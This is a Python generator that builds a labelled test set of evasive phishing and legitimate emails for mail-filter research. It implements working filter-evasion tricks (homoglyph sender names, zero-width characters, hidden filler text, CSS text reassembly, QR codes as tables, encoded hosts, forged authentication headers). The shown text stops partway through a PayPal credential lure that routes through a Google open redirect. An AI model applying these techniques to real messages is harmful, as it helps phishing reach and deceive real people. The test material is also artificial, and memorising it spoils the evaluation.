#!/usr/bin/env python3
"""Blind set 26: evasive English-language phishing and scams, 2024-2026.

A mail-security researcher's collection from consumer and small-business
mailboxes in five countries, picked for the tricks the kits use to slip
past content filters rather than for the lure alone:

* US: Dana Whitfield (Gmail), Kelly Ortega (Yahoo), Mike Brennan who runs
  Brightline HVAC in Ohio (Microsoft 365).
* UK: Tom Ashworth (Outlook.com), Sophie Hale of Harbour Lane Bakery in
  Bristol (Microsoft 365).
* India: Priya Raman (Gmail), Anil Kumar of Sunrise Textiles, Surat (Zoho Mail).
* Philippines: Jerome Dela Cruz (Gmail), Maricel Santos (Yahoo).
* Nigeria: Chinedu Okafor (Gmail), Funmilayo Adeyemi (Yahoo), Adaeze Nwosu of
  Lagos Fresh Foods (Google Workspace).

The 50 attacks (45 phishing/fraud, 5 malware) each carry at least one
evasion trick seen in real kits: Cyrillic/Greek homoglyphs and fullwidth
letters in brand and sender names, zero-width and soft-hyphen characters
inside words, text cut into tiny spans or reassembled with CSS (flex order,
::before content), hidden filler paragraphs (display:none, white on white,
font-size:0), image-only bodies, base64 HTML bodies, every letter written as
an HTML entity, quoted-printable soft line breaks inside words, URL tricks
(@ userinfo, dotted/decimal/hex IP hosts, %-encoded hosts, open redirects on
Google, Bing, LinkedIn, YouTube, DoubleClick, Adobe Campaign and Baidu,
nested redirects, data: URIs, javascript: links in HTML attachments, SVG
scripts), QR codes drawn as HTML tables or embedded in PDFs, emoji and
look-alike letters in subjects, fake addresses inside display names,
Reply-To diversion and mailto-only lures.  Lures: bank and card alerts,
PayPal/Apple/Amazon/Netflix/Microsoft/Google, parcel fees, tolls, tax
refunds, crypto wallets, pig-butchering, WhatsApp/Telegram task jobs,
callback invoices (Geek Squad, Norton, PayPal, Coinbase), Meta copyright,
DocuSign/SharePoint shares, gift-card CEO fraud, payroll and bank-detail
diversion, advance-fee and sextortion; a few droppers (JS in ZIP, HTML
smuggling, ISO+LNK, Drive-hosted archive, macro document).

The 25 legitimate messages are deliberately noisy: real brand notifications
and newsletters with hidden preheaders padded with &zwnj;, click-tracking
redirect domains, image-heavy tables and emoji subjects, a bank fraud alert
that asks the customer to call, genuine Microsoft and Google security
alerts, a real DocuSign envelope, business invoices and personal mail with
emoji and forwarded content.

Run from the repository root:
    .venv/bin/python samples/tools/build_blind26_samples.py
"""

from __future__ import annotations

import base64
import hashlib
import random
import re
import sys
import zlib
from datetime import datetime, timedelta, timezone
from email import policy
from email.parser import BytesParser
from email.utils import format_datetime
from pathlib import Path

HERE = Path(__file__).resolve().parent
sys.path.insert(0, str(HERE))

import files  # noqa: E402
import mime  # noqa: E402
from mime import Leaf, Multi, attachment, text  # noqa: E402

ROOT = HERE.parents[1]
SET = 26

# Leaves carrying a pre-encoded body (hand-made quoted-printable) bypass mime's encoder.
_mime_encode = mime._encode


def _encode(leaf):
    raw = getattr(leaf, "raw", None)
    return raw if raw is not None else _mime_encode(leaf)


mime._encode = _encode


# ---------------------------------------------------------------- small utilities

def H(*parts, n=64) -> str:
    return hashlib.sha256("|".join(map(str, parts)).encode()).hexdigest()[:n]


def B64(*parts, n=20) -> str:
    raw = hashlib.sha512("|".join(map(str, parts)).encode()).digest() * 3
    return base64.b64encode(raw).decode().replace("+", "").replace("/", "")[:n]


def bnd(style: str, seed: str) -> str:
    h = H("bnd", style, seed)
    return {
        "gm": "000000000000" + h[:16],
        "ol": f"_000_{h[:8].upper()}PR{h[8:10]}MB{h[10:14]}namprd{h[14:16]}prod_",
        "jm": f"----=_Part_{int(h[:5], 16)}_{int(h[5:14], 16)}.{1700000000000 + int(h[14:24], 16) % 10**11}",
        "php": "b1_" + h[:32],
        "mc": f"_----------=_MCPart_{int(h[:9], 16)}",
        "sg": h[:60],
        "ap": f"Apple-Mail={h[:8].upper()}-{h[8:12].upper()}-{h[12:16].upper()}-{h[16:28].upper()}",
        "yh": f"----=_Part_{int(h[:7], 16)}_{int(h[7:16], 16)}.{1700000000000 + int(h[16:26], 16) % 10**11}",
    }[style]


def enc_words(s: str) -> str:
    """RFC 2047 B-encoding in UTF-8, folded into several encoded words when long."""
    if all(ord(c) < 128 for c in s):
        return s
    words, cur = [], b""
    for ch in s:
        b = ch.encode()
        if len(cur) + len(b) > 39:
            words.append(cur)
            cur = b""
        cur += b
    words.append(cur)
    return "\n ".join(f"=?UTF-8?B?{base64.b64encode(w).decode()}?=" for w in words)


def addr(name: str, a: str) -> str:
    if not name:
        return a
    if any(ord(c) > 127 for c in name):
        return f"{enc_words(name)} <{a}>"
    if re.search(r'[()<>@,;:\\".\[\]]', name):
        return f'"{name}" <{a}>'
    return f"{name} <{a}>"


# ---------------------------------------------------------------- evasion tricks

CYR = dict(zip("aceopxyisjABCEHKMOPTXIS", "асеорхуіѕјАВСЕНКМОРТХІЅ"))
GRK = dict(zip("aovinABEHIKMNOPTXYZ", "αονιηΑΒΕΗΙΚΜΝΟΡΤΧΥΖ"))


def hg(s: str, letters: str = "aeo", greek: bool = False) -> str:
    """Swap the chosen Latin letters for Cyrillic (or Greek) look-alikes."""
    table = GRK if greek else CYR
    return "".join(table.get(c, c) if c in letters else c for c in s)


def fw(s: str) -> str:
    """Fullwidth forms of ASCII letters and digits."""
    return "".join(chr(ord(c) + 0xFEE0) if "!" <= c <= "~" else ("\u3000" if c == " " else c) for c in s)


def zw(s: str, sep: str = "\u200b", step: int = 2) -> str:
    """Put an invisible separator every ``step`` letters inside longer words."""
    def word(m):
        w = m.group(0)
        return sep.join(w[i:i + step] for i in range(0, len(w), step))
    return re.sub(r"[A-Za-z]{4,}", word, s)


def ent(s: str) -> str:
    """Every letter and digit as a numeric character reference, decimal and hex alternating."""
    return "".join((f"&#{ord(c)};" if i % 2 else f"&#x{ord(c):X};") if c.isalnum() else c for i, c in enumerate(s))


JUNK = ["qz", "xv", "kw", "jf", "zp", "vq", "wx", "fk"]


def spans(s: str, seed: str, junk: bool = False) -> str:
    """Cut text into spans of 1-3 characters, optionally with hidden decoy letters between them."""
    rng = random.Random(seed)
    out, i = [], 0
    while i < len(s):
        n = rng.randint(1, 3)
        chunk = s[i:i + n].replace(" ", "&nbsp;")
        out.append(f"<span>{chunk}</span>")
        if junk and rng.random() < 0.45:
            style = rng.choice(["display:none", "font-size:0px", "color:transparent;font-size:0", "opacity:0;width:0;overflow:hidden;display:inline-block"])
            out.append(f'<span style="{style}">{rng.choice(JUNK)}</span>')
        i += n
    return "".join(out)


def flex(s: str, seed: str) -> str:
    """Words written out of order and put back in order by CSS flexbox."""
    words = s.split(" ")
    idx = list(range(len(words)))
    random.Random(seed).shuffle(idx)
    cells = "".join(f'<span style="order:{i + 1}">{words[i]}&nbsp;</span>' for i in idx)
    return f'<div style="display:flex;flex-wrap:wrap">{cells}</div>'


def before(lines: list[str], prefix: str) -> tuple[str, str]:
    """CSS rules carrying the visible text in ::before content, and the empty elements they decorate."""
    css = "".join(f'.{prefix}{i}::before{{content:"{line}"}}' for i, line in enumerate(lines))
    html = "".join(f'<p class="{prefix}{i}"></p>' for i in range(len(lines)))
    return css, html


NEWS = [
    "The county board approved a plan on Tuesday to resurface the east bypass before winter, with lane closures expected to last six weeks.",
    "Local growers reported a strong apple harvest this season despite a dry August, and prices at farm stands are expected to stay flat.",
    "The regional library will extend weekend opening hours from next month after a survey showed demand from students and shift workers.",
    "Officials said the new ferry timetable would add two early sailings on weekdays, easing the crush on the 7:40 departure.",
    "A youth football tournament drew more than forty teams to the riverside fields, the largest turnout since the event began in 2009.",
    "Engineers completed inspection of the old railway bridge and found the steelwork sound, clearing the way for the heritage line to reopen.",
    "The weather service expects a band of showers to clear by Thursday afternoon, followed by a mild and mostly dry weekend.",
    "Shop owners on the high street welcomed the decision to keep parking free after six in the evening during the holiday period.",
    "Scientists at the coastal research station tagged a record number of sea turtles this summer as part of a long-running survey.",
    "The city's recycling programme will accept soft plastics from January, according to a statement released by the waste authority.",
]

HIDE = {
    "none": "display:none;max-height:0;overflow:hidden;mso-hide:all",
    "white": "color:#ffffff;background:#ffffff;font-size:11px",
    "zero": "font-size:0px;line-height:0;color:transparent",
    "tiny": "font-size:1px;color:#fefefe;line-height:1px;max-height:1px;opacity:0",
}


def filler(seed: str, n: int = 3, mode: str = "none") -> str:
    rng = random.Random(seed)
    paras = rng.sample(NEWS, n)
    return "".join(f'<div style="{HIDE[mode]}">{p}</div>' for p in paras)


def qr_matrix(url: str, border: int = 2) -> list[list[int]]:
    import segno
    m = [list(row) for row in segno.make(url, error="m").matrix]
    size = len(m) + 2 * border
    out = [[0] * size for _ in range(border)]
    out += [[0] * border + row + [0] * border for row in m]
    return out + [[0] * size for _ in range(border)]


def qr_table(url: str, px: int = 5) -> str:
    """A QR code drawn as a table of black and white cells (no image to scan)."""
    rows = []
    for row in qr_matrix(url):
        cells = "".join(f'<td bgcolor="{"#000000" if v else "#ffffff"}" width="{px}" height="{px}"></td>' for v in row)
        rows.append(f"<tr>{cells}</tr>")
    return ('<table cellpadding="0" cellspacing="0" border="0" style="border-collapse:collapse;margin:0 auto">'
            + "".join(rows) + "</table>")


def qr_gray(url: str, scale: int = 6) -> tuple[bytes, int]:
    m = qr_matrix(url, 4)
    row_bytes = []
    for row in m:
        line = bytes(0 if v else 255 for v in row for _ in range(scale))
        row_bytes.extend([line] * scale)
    return b"".join(row_bytes), len(m) * scale


def pdf_qr(lines: list[str], url: str, title: str) -> bytes:
    """A one-page PDF with some text and a QR code image (no link annotation)."""
    raw, size = qr_gray(url)
    esc = lambda t: t.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")  # noqa: E731
    body = ["BT", "/F1 12 Tf", "16 TL", "56 780 Td"] + [f"({esc(t)}) Tj T*" for t in lines] + ["ET"]
    body += ["q", f"170 0 0 170 212 380 cm", "/Im1 Do", "Q"]
    objects = files.image_page("\n".join(body).encode("latin-1"), zlib.compress(raw, 9), size, size, "FlateDecode")
    objects.append(f"<< /Title ({esc(title)}) /Producer (Skia/PDF m124) /CreationDate (D:20250611081500Z) >>".encode())
    return files.pdf_file(objects, 7)


def png_card(lines: list[tuple[str, int, str]], size=(600, 380), bg="#ffffff") -> bytes:
    """A PNG with lines of text (text, font size, colour): the whole message drawn as a picture."""
    import io

    from PIL import Image, ImageDraw, ImageFont
    img = Image.new("RGB", size, bg)
    draw = ImageDraw.Draw(img)
    y = 24
    for line, pt, colour in lines:
        draw.text((28, y), line, fill=colour, font=ImageFont.load_default(size=pt))
        y += int(pt * 1.6)
    buf = io.BytesIO()
    img.save(buf, "PNG", optimize=False)
    return buf.getvalue()


def qp(s: str) -> bytes:
    """Quoted-printable by hand: '¦' marks a forced soft line break (inside words, as kits do)."""
    out = []
    for line in s.split("\n"):
        cur = ""
        for ch in line:
            if ch == "¦":
                out.append(cur + "=")
                cur = ""
                continue
            u = "".join(f"={b:02X}" for b in ch.encode()) if ch == "=" or ord(ch) > 126 or ord(ch) < 32 else ch
            if len(cur) + len(u) > 75:
                out.append(cur + "=")
                cur = ""
            cur += u
        if cur.endswith((" ", "\t")):
            cur = cur[:-1] + f"={ord(cur[-1]):02X}"
        out.append(cur)
    return ("\n".join(out) + "\n").encode()


def qpleaf(s: str, subtype: str = "html") -> Leaf:
    leaf = Leaf(f"text/{subtype}", b"", "quoted-printable", '; charset="utf-8"')
    leaf.raw = qp(s)
    return leaf


# ---------------------------------------------------------------- MIME shapes

def T(s: str, enc: str = "quoted-printable") -> Leaf:
    return text(s, "plain", enc)


def Hh(s: str, enc: str = "quoted-printable") -> Leaf:
    return text(s, "html", enc)


def alt(seed: str, plain, html, style: str = "jm") -> Multi:
    p = plain if isinstance(plain, (Leaf, Multi)) else T(plain)
    h = html if isinstance(html, (Leaf, Multi)) else Hh(html)
    return Multi("alternative", bnd(style, seed + "a"), [p, h])


def mixed(seed: str, first, *atts, style: str = "jm") -> Multi:
    return Multi("mixed", bnd(style, seed + "m"), [first, *atts])


def related(seed: str, first, *imgs, style: str = "jm") -> Multi:
    return Multi("related", bnd(style, seed + "r"), [first, *imgs], '\n\ttype="text/html";')


def strip_html(h: str, links: bool = False) -> str:
    import html as htmlmod
    h = re.sub(r"(?is)<(style|head|script)\b.*?</\1>", "", h)
    if links:
        h = re.sub(r'(?is)<a\s[^>]*href="(http[^"]+)"[^>]*>(.*?)</a>', r"\2 ( \1 )", h)
    h = re.sub(r'<div style="display:none;font-size:1px;[^"]*max-width:0;opacity:0[^"]*">.*?</div>', "", h)
    h = re.sub(r"(?i)<br\s*/?>|</p>|</tr>|</h\d>|</div>", "\n", h)
    h = re.sub(r"<[^>]+>", "", h)
    h = htmlmod.unescape(h.replace("&zwnj;", "").replace("&nbsp;", " "))
    lines = [re.sub(r"[ \t]+", " ", ln).strip() for ln in h.split("\n")]
    return re.sub(r"\n{3,}", "\n\n", "\n".join(lines)).strip() + "\n"


def page(inner: str, css: str = "", pre: str = "", bg: str = "#f4f5f7", font: str = "Arial,Helvetica,sans-serif") -> str:
    pre_div = (f'<div style="display:none;font-size:1px;color:{bg};line-height:1px;max-height:0;max-width:0;opacity:0;overflow:hidden">'
               f'{pre}{"&nbsp;&zwnj;" * 40}</div>' if pre else "")
    return (f'<!DOCTYPE html><html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8">'
            f'<meta name="viewport" content="width=device-width, initial-scale=1"><style>{css}</style></head>'
            f'<body style="margin:0;padding:0;background:{bg};font-family:{font}">{pre_div}'
            f'<table role="presentation" width="100%" cellpadding="0" cellspacing="0" bgcolor="{bg}"><tr><td align="center" style="padding:24px 8px">'
            f'<table role="presentation" width="600" cellpadding="0" cellspacing="0" bgcolor="#ffffff" style="max-width:600px">'
            f"{inner}</table></td></tr></table></body></html>")


def card(brand: str, colour: str, title: str, paras: list[str], button=None, foot: str = "", css: str = "",
         pre: str = "", hidden: str = "", logo: str = "") -> str:
    head = (f'<img src="{logo}" alt="{brand}" height="32" style="display:block;border:0">' if logo else
            f'<span style="font-size:22px;font-weight:bold;color:{colour}">{brand}</span>')
    body = "".join(f'<p style="font-size:15px;line-height:22px;color:#333333;margin:0 0 14px">{p}</p>' for p in paras)
    btn = ""
    if button:
        btn = (f'<table role="presentation" cellpadding="0" cellspacing="0"><tr><td bgcolor="{colour}" style="border-radius:4px">'
               f'<a href="{button[1]}" style="display:inline-block;padding:12px 28px;color:#ffffff;font-size:15px;'
               f'font-weight:bold;text-decoration:none">{button[0]}</a></td></tr></table>')
    inner = (f'<tr><td style="padding:20px 32px;border-bottom:3px solid {colour}">{head}</td></tr>'
             f'<tr><td style="padding:28px 32px"><h2 style="font-size:20px;color:#111111;margin:0 0 16px">{title}</h2>'
             f'{body}{btn}{hidden}</td></tr>'
             f'<tr><td style="padding:16px 32px;background:#fafafa;font-size:11px;color:#888888;line-height:16px">{foot}</td></tr>')
    return page(inner, css, pre)


# ---------------------------------------------------------------- recipients and transport

RCPT = {
    "dana": ("Dana Whitfield", "dana.whitfield@gmail.com", "gmail"),
    "kelly": ("Kelly Ortega", "kelly.ortega@yahoo.com", "yahoo"),
    "mike": ("Mike Brennan", "mike@brightlinehvac.com", "m365us"),
    "tom": ("Tom Ashworth", "tom.ashworth@outlook.com", "outlook"),
    "sophie": ("Sophie Hale", "sophie@harbourlanebakery.co.uk", "m365uk"),
    "priya": ("Priya Raman", "priya.raman84@gmail.com", "gmail"),
    "anil": ("Anil Kumar", "anil.kumar@sunrisetextiles.in", "zoho"),
    "jerome": ("Jerome Dela Cruz", "jerome.delacruz@gmail.com", "gmail"),
    "maricel": ("Maricel Santos", "maricel.santos@yahoo.com", "yahoo"),
    "chinedu": ("Chinedu Okafor", "chinedu.okafor@gmail.com", "gmail"),
    "funmi": ("Funmilayo Adeyemi", "funmi.adeyemi@yahoo.com", "yahoo"),
    "adaeze": ("Adaeze Nwosu", "adaeze@lagosfreshfoods.com.ng", "gmail"),
}


def fmt(dt: datetime, tz: str | None = None) -> str:
    if tz == "pt":
        dst = 3 < dt.month < 11 or (dt.month == 3 and dt.day >= 10) or (dt.month == 11 and dt.day < 3)
        local = dt.astimezone(timezone(timedelta(hours=-7 if dst else -8)))
        return format_datetime(local) + (" (PDT)" if dst else " (PST)")
    if tz == "utc":
        return format_datetime(dt.astimezone(timezone.utc)).replace("-0000", "+0000")
    return format_datetime(dt)


def spf_words(res: str, mf: str, ip: str, who: str) -> str:
    if res == "pass":
        return f"domain of {mf} designates {ip} as permitted sender"
    if res == "none":
        return f"{mf.split('@')[-1]} does not designate permitted sender hosts" if who else "no SPF record"
    if res == "softfail":
        return f"domain of transitioning {mf} does not designate {ip} as permitted sender"
    return f"domain of {mf} does not designate {ip} as permitted sender"


def receiver_block(m: dict, to: str, prov: str, dt: datetime) -> list[str]:
    spf, dkim, dmarc = m["auth"]
    mf, ip, helo = m["mailfrom"], m["ip"], m["helo"]
    rdns = m.get("rdns", helo)
    mfd, fd, d, sel = mf.split("@")[-1].lower(), m["frm"][1].split("@")[-1].lower(), m["d"], m["sel"]
    p = m["p"]
    h = H(m["slug"], "rx")
    t1, t2 = dt + timedelta(seconds=3 + int(h[0], 16)), dt + timedelta(seconds=4 + int(h[0], 16))
    if prov == "gmail":
        sid = f"{h[:13]}si{int(h[13:20], 16)}.{int(h[20:22], 16)}.{t1:%Y.%m.%d.%H.%M.%S}"
        res = [f"mx.google.com;"]
        if dkim != "none":
            res.append(f"dkim={dkim} header.i=@{d} header.s={sel} header.b={B64(m['slug'], 'b')[:8]};")
        res.append(f"spf={spf} (google.com: {spf_words(spf, mf, ip, 'g')}) smtp.mailfrom={mf};")
        if dmarc != "none":
            dis = "NONE" if dmarc == "pass" or p == "none" else p.upper()
            sp = "QUARANTINE" if fd == "gmail.com" else p.upper()
            res.append(f"dmarc={dmarc} (p={p.upper()} sp={sp} dis={dis}) header.from={fd}")
        res[-1] = res[-1].rstrip(";")
        return [f"Delivered-To: {to}",
                f"Received: by 2002:a05:{h[22:26]}:{h[26:30]}:b0:{h[30:33]}:{h[33:37]} with SMTP id {h[37:41]}csp{int(h[41:48], 16)};\n        {fmt(t2, 'pt')}",
                f"X-Google-Smtp-Source: AGHT+I{B64(m['slug'], 'gs', n=70)}",
                f"Return-Path: <{mf}>",
                f"Received: from {helo} ({rdns}. [{ip}])\n        by mx.google.com with ESMTPS id {sid}\n        for <{to}>\n"
                f"        (version=TLS1_3 cipher=TLS_AES_256_GCM_SHA384 bits=256/256);\n        {fmt(t1, 'pt')}",
                f"Received-SPF: {spf} (google.com: {spf_words(spf, mf, ip, 'g')}) client-ip={ip};",
                "Authentication-Results: " + "\n       ".join(res)]
    if prov in ("m365us", "m365uk", "outlook"):
        eu = prov == "m365uk" or (prov == "outlook" and m.get("eu", True))
        ft = (f"AM{h[:1].upper()}PEPF0000{h[1:5].upper()}.eurprd0{int(h[5], 16) % 5 + 1}.prod.outlook.com" if eu
              else f"BN{int(h[:2], 16) % 3 + 1}PEPF0000{h[2:6].upper()}.namprd0{int(h[6], 16) % 5 + 2}.prod.outlook.com")
        mbx = (f"DB{int(h[7:9], 16) % 9 + 1}PR0{int(h[9], 16) % 9 + 1}MB{int(h[10:14], 16) % 9000 + 1000}.eurprd0{int(h[5], 16) % 5 + 1}.prod.outlook.com"
               if eu else f"SA{int(h[7:9], 16) % 3 + 1}PR1{int(h[9], 16) % 9}MB{int(h[10:14], 16) % 9000 + 1000}.namprd1{int(h[6], 16) % 9}.prod.outlook.com")
        v6 = f"2603:10a6:{h[14:17]}:{h[17:20]}::{h[20:22]}" if eu else f"2603:10b6:{h[14:17]}:{h[17:20]}::{h[20:22]}"
        if dkim == "pass":
            dk = f"dkim=pass (signature was verified) header.d={d}"
        elif dkim == "fail":
            dk = f"dkim=fail (body hash did not verify) header.d={d}"
        else:
            dk = "dkim=none (message not signed) header.d=none"
        act = {"pass": "none", "bestguesspass": "none", "none": "none"}.get(dmarc, {"reject": "oreject", "quarantine": "quarantine"}.get(p, "none"))
        ca = "pass reason=100" if dmarc in ("pass", "bestguesspass") else ("fail reason=000" if dmarc == "fail" else "none reason=405")
        rspf = {"pass": "Pass", "fail": "Fail", "softfail": "SoftFail", "none": "None", "neutral": "Neutral"}[spf]
        return [f"Received: from {ft} ({v6}) by\n {mbx} with Microsoft SMTP Server\n (version=TLS1_2, cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id 15.20.{8000 + int(h[22:25], 16) % 900}.{int(h[25:27], 16)}; {fmt(t2, 'utc')}",
                f"Authentication-Results: spf={spf} (sender IP is {ip})\n smtp.mailfrom={mfd}; {dk};dmarc={dmarc} action={act}\n header.from={fd};compauth={ca}",
                f"Received-SPF: {rspf} (protection.outlook.com: {spf_words(spf, mfd if spf == 'none' else mf, ip, 'm')})\n receiver=protection.outlook.com; client-ip={ip}; helo={helo};" + (" pr=C" if spf == "pass" else ""),
                f"Received: from {helo} ({ip}) by\n {ft.split('.')[0]}.mail.protection.outlook.com ({v6[:-2]}{h[27:29]}) with Microsoft SMTP\n Server (version=TLS1_3, cipher=TLS_AES_256_GCM_SHA384) id 15.20.{8000 + int(h[22:25], 16) % 900}.{int(h[25:27], 16)}\n via Frontend Transport; {fmt(t1, 'utc')}",
                "X-MS-Exchange-Organization-AuthAs: Anonymous",
                f"X-MS-Exchange-Organization-AuthSource: {ft}"]
    if prov == "yahoo":
        node = f"atlas{int(h[:3], 16) % 400 + 100}.free.mail.{'bf1' if int(h[3], 16) % 2 else 'gq1'}.yahoo.com"
        res = [f"{node};"]
        if dkim != "none":
            res.append(f"dkim={dkim} header.i=@{d} header.s={sel};")
        else:
            res.append("dkim=unknown;")
        res.append(f"spf={spf} smtp.mailfrom={mfd};")
        res.append(f"dmarc={dmarc if dmarc != 'bestguesspass' else 'pass'}(p={p.upper()}) header.from={fd};" if dmarc != "none" else "dmarc=unknown header.from=" + fd + ";")
        return [f"X-Apparently-To: {to}; {fmt(t2, 'utc')}",
                f"Return-Path: <{mf}>",
                f"Received-SPF: {spf} ({spf_words(spf, mfd, ip, '')})",
                "Authentication-Results: " + "\n ".join(res),
                f"Received: from {ip} (EHLO {helo})\n by {node.replace('atlas', 'mta')} with SMTPS; {fmt(t1, 'utc')}"]
    if prov == "zoho":
        res = ["mx.zohomail.in;", f"dkim={dkim if dkim != 'none' else 'none'};",
               f"spf={spf} (zohomail.in: {spf_words(spf, mf, ip, 'z')})  smtp.mailfrom={mf};"]
        res.append(f"dmarc={dmarc}(p={p} dis=none)  header.from={fd}" if dmarc != "none" else f"dmarc=none header.from={fd}")
        return [f"Delivered-To: {to}",
                "Authentication-Results: " + "\n\t".join(res),
                f"Received-SPF: {spf} (zohomail.in: {spf_words(spf, mf, ip, 'z')}) client-ip={ip}; envelope-from={mf}; helo={helo};",
                f"Received: from {helo} ({rdns} [{ip}]) by mx.zohomail.in\n\twith SMTPS id {int(h[:12], 16)}{int(h[12:15], 16)}; {fmt(t1, 'utc')}"]
    raise ValueError(prov)


def dkim_sig(m: dict, dt: datetime) -> str:
    ts = int(dt.timestamp())
    b = B64(m["slug"], "sig", n=216)
    b = "\n\t ".join(b[i:i + 70] for i in range(0, len(b), 70))
    hl = m.get("dkim_h", "From:To:Subject:Date:Message-ID:MIME-Version:Content-Type")
    return (f"DKIM-Signature: v=1; a=rsa-sha256; c=relaxed/relaxed; d={m['d']}; s={m['sel']};\n\tt={ts}; "
            f"h={hl};\n\tbh={B64(m['slug'], 'bh', n=43)}=;\n\tb={b}")


def headers(m: dict) -> str:
    name, to_addr, prov = RCPT[m["rcpt"]]
    dt = datetime.strptime(m["date"], "%Y-%m-%d %H:%M:%S %z")
    out = receiver_block(m, to_addr, prov, dt)
    ups = m.get("up", [])
    for i, (frm, by, with_) in enumerate(ups):
        t = dt + timedelta(seconds=len(ups) - i)
        src = f"from {frm}\n\tby " if frm else "by "
        out.append(f"Received: {src}{by} with {with_};\n\t{fmt(t, m.get('up_tz'))}")
    if m["auth"][1] != "none" and m.get("sign", True):
        out.append(dkim_sig(m, dt))
    out += m.get("pre", [])
    out.append("From: " + addr(*m["frm"]))
    out.append("To: " + m.get("to", addr(name, to_addr)))
    if m.get("cc"):
        out.append("Cc: " + m["cc"])
    if m.get("reply_to"):
        rt = m["reply_to"]
        out.append("Reply-To: " + (addr(*rt) if isinstance(rt, tuple) else rt))
    out.append("Subject: " + enc_words(m["subj"]))
    out.append("Date: " + fmt(dt))
    out.append("Message-ID: " + m.get("mid", f"<{H(m['slug'], 'mid', n=24)}@{m['frm'][1].split('@')[-1]}>"))
    out += m.get("extra", [])
    return "\n".join(out)


MSGS: list[dict] = []


def add(slug, cat, kind, rcpt, date, frm, subj, body, desc, **kw):
    """Register one message; transport defaults to 'everything passes for the From domain'."""
    m = dict(slug=slug, cat=cat, kind=kind, rcpt=rcpt, date=date, frm=frm, subj=subj, body=body, desc=desc)
    m.update(kw)
    fd = frm[1].split("@")[-1].lower()
    m.setdefault("auth", ("pass", "pass", "pass"))
    m.setdefault("mailfrom", frm[1])
    m.setdefault("d", fd)
    m.setdefault("sel", "s1")
    m.setdefault("p", "none")
    if m.get("helo", "").endswith("outbound.protection.outlook.com") and "mid" not in m:
        h = H(slug, "msmid")
        host = f"{'CWLP' if m['rcpt'] in ('tom', 'sophie') else 'BY5PR'}{int(h[:2], 16) % 20}MB{int(h[2:6], 16) % 9000 + 1000}"
        dom = "GBRP123.PROD.OUTLOOK.COM" if host.startswith("CWLP") else f"namprd{int(h[6], 16) % 20}.prod.outlook.com"
        m["mid"] = f"<{host}{h[7:31].upper()}@{host}.{dom}>"
    if m.get("helo", "").endswith("amazonses.com") and "mid" not in m:
        h = H(slug, "sesmid")
        m["mid"] = f"<0100018{h[:9]}-{h[9:17]}-{h[17:21]}-{h[21:25]}-{h[25:29]}-{h[29:41]}-000000@email.amazonses.com>"
    MSGS.append(m)


# Freemail and platform transports, splatted into add(): they set IP, HELO, DKIM selector, DMARC policy.
def GM(n: int, slug: str) -> dict:
    h = H(slug, "gm")
    return dict(ip=f"209.85.{218 + n % 3}.{40 + n}", helo=f"mail-{['ej1', 'wr1', 'pl1', 'sor'][n % 4]}-f{40 + n}.google.com",
                d="gmail.com", sel="20230601", p="none",
                up=[(None, f"2002:a17:90a:{h[:4]}:b0:{h[4:7]}:{h[7:11]}", f"SMTP id {h[11:15]}mr{int(h[15:22], 16)}")],
                up_tz="pt", mid=f"<CA{B64(slug, 'mid', n=8)}+{B64(slug, 'mid2', n=40)}@mail.gmail.com>")


def OLF(slug: str, dom: str = "outlook.com") -> dict:
    h = H(slug, "ol")
    return dict(ip=f"40.92.{int(h[:2], 16) % 100 + 10}.{int(h[2:4], 16) % 200 + 20}",
                helo=f"NAM{int(h[4], 16) % 9 + 2}-BN8-obe.outbound.protection.outlook.com", d=dom, sel="selector1", p="none",
                up=[(f"SJ0PR1{int(h[5], 16) % 9}MB{int(h[6:10], 16) % 9000 + 1000}.namprd1{int(h[10], 16) % 9}.prod.outlook.com",
                     f"SJ0PR1{int(h[5], 16) % 9}MB{int(h[6:10], 16) % 9000 + 1000}.namprd1{int(h[10], 16) % 9}.prod.outlook.com",
                     "HTTPS")], rdns="mail-bn8nam12olkn20" + h[11:13] + ".outbound.protection.outlook.com", up_tz="utc",
                mid=f"<SJ0PR1{int(h[5], 16) % 9}MB{int(h[6:10], 16) % 9000 + 1000}{H(slug, 'mid', n=24).upper()}@SJ0PR1{int(h[5], 16) % 9}MB{int(h[6:10], 16) % 9000 + 1000}.namprd1{int(h[10], 16) % 9}.prod.outlook.com>")


def dec_ip(ip: str) -> int:
    a, b, c, d = map(int, ip.split("."))
    return (a << 24) | (b << 16) | (c << 8) | d


def b64u(s: str) -> str:
    return base64.urlsafe_b64encode(s.encode()).decode().rstrip("=")


def pct(s: str) -> str:
    from urllib.parse import quote
    return quote(s, safe="")


def pct_all(s: str) -> str:
    """Every character %-encoded (hosts written this way still resolve in browsers)."""
    return "".join(f"%{b:02x}" for b in s.encode())


def kit(seed: str, html: str, style: str = "php", plain: str | None = None, henc: str = "quoted-printable") -> Multi:
    """The usual kit shape: text part derived from the HTML (filler and all), then the HTML."""
    return alt(seed, T(plain if plain is not None else strip_html(html, seed.startswith("l"))), Hh(html, henc), style)


def gmail_body(seed: str, plain: str, html: str | None = None) -> Multi:
    """What Gmail's composer writes: plain text and a <div dir="ltr"> HTML twin."""
    if html is None:
        html = "".join(f"<div>{ln if ln else '<br>'}</div>" for ln in plain.replace("&", "&amp;").split("\n"))
        html = f'<div dir="ltr">{html}</div>\n'
    return alt(seed, T(plain), Hh(html), "gm")


FOOT_PP = "PayPal is committed to preventing fraudulent emails. &copy; 1999-2024 PayPal, Inc. All rights reserved."

# ============================================================== attacks (50)

# --- P01 PayPal limitation: Cyrillic homoglyphs in the display name and subject, zero-width spaces, Google redirect to pages.dev
_u = f"https://www.google.com/url?q=https://ppl-resolve-8kd.pages.dev/signin?cid%3D{H('p01', n=20)}&sa=D&sntz=1&usg=AOvVaw{B64('p01u', n=22)}"
_h = card(hg("PayPal", "Pa"), "#003087", zw("We've limited your account"), [
    zw("Hello Dana,"),
    zw("We noticed some unusual activity on your PayPal account and, as a precaution, we have temporarily limited what you can do with it until we confirm your identity."),
    zw("Please confirm your information within 48 hours. Accounts that are not confirmed will be permanently restricted and any remaining balance will be held for 180 days."),
    "Case ID: <b>PP-L-4471-829</b>"], (zw("Resolve Now"), _u), FOOT_PP)
add("paypal-limited-homoglyph", "phishing", "phish", "dana", "2024-02-13 08:41:17 -0500",
    (hg("PayPal Account Services", "aPce"), "notify@paypal-account-resolution.support"),
    "⚠️ " + hg("Your account access has been limited", "aeo") + " [Case ID: PP-L-4471-829]",
